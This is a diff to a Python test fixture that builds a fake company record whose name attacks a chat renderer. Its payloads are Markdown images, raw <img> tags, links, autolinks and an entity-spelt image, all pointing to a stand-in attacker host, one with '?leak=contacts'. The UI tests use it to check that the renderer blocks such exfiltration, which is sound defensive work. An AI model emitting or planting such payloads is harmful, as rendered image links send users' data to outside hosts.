@@ -1,5 +1,6 @@
-"""A company whose name attacks the chat renderer: a Markdown image to an outside host, a raw
-`<img>` tag and a link elsewhere, as a scraped or imported record could hold. The UI tests put
+"""A company whose name attacks the chat renderer, as a scraped or imported record could: a
+Markdown image to an outside host, inline and reference-style, a raw `<img>` tag, a link, an
+autolink, a bare URL and an entity-spelt image, all elsewhere. The UI tests put
 it in the store before `filon ui` starts and search for it by its first word."""
 
 from __future__ import annotations
@@ -15,7 +16,9 @@ SEARCH_WORD = "Zorglub"
 SIREN = "552100554"
 NAME = (
     f"{SEARCH_WORD} ![p](https://{EVIL_HOST}/p.png?leak=contacts) "
-    f'<img src="https://{EVIL_HOST}/tag.png"> [site](https://{EVIL_HOST}/x) Conseil'
+    f'<img src="https://{EVIL_HOST}/tag.png"> [site](https://{EVIL_HOST}/x) '
+    f"![r][ref] <https://{EVIL_HOST}/auto> www.{EVIL_HOST} &#33;[e](https://{EVIL_HOST}/e.png) "
+    f"Conseil\n\n[ref]: https://{EVIL_HOST}/ref.png"
 )
 WEBSITE = "https://www.zorglub.fr"
 
